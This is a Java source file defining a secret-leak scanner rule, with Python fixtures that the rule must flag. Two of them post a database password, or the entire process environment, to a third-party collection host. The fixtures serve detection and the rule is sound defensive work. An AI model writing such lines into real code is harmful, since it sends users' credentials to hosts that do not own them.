package dev.weir.scan.rules;

import dev.weir.scan.egress.Flow;
import dev.weir.scan.finding.Risk;
import java.util.List;
import java.util.stream.Stream;

/**
 * A key or a password leaves in the body of a request, to somebody whose it is not.
 */
final class SecretInPayload implements Rule {

  @Override
  public About about() {
    return About.of("secret-in-payload", "A secret leaves as data", Risk.HIGH,
        "A secret that stands in a body ends up in logs, queues and backups of whoever receives it, and works for everybody who reads them.",
        "Send credentials in the header that the service names, to the service they belong to; send nothing of the environment as a whole.")
        .hits("""
            import os, requests
            requests.post("https://collect.acme-metrics.io/v1", json={"db": os.environ["DB_PASSWORD"]})
            """,
            """
                import os, requests
                requests.post("https://collect.acme-metrics.io/v1", json=dict(os.environ))
                """)
        .misses(
            """
                import os, requests
                requests.post("https://api.stripe.com/v1/charges", data={"amount": 5}, headers={"Authorization": os.environ["STRIPE_API_KEY"]})
                """);
  }

  @Override
  public Stream<Remark> judge(Subject subject) {
    return subject.sendings().stream().filter(Sending::leaves).flatMap(sending -> {
      var flows = secrets(sending);
      if (flows.isEmpty())
        return Stream.empty();
      return Stream.of(sending.remark("Sends the secret " + Sentences.of(flows) + " as data to "
          + Sentences.of(sending.recipient()) + ".", flows));
    });
  }

  private static List<Flow> secrets(Sending sending) {
    return sending.sensitive().stream()
        .filter(flow -> flow.where() == Flow.Part.PAYLOAD && flow.datum().type().equals("SECRET")).toList();
  }
}
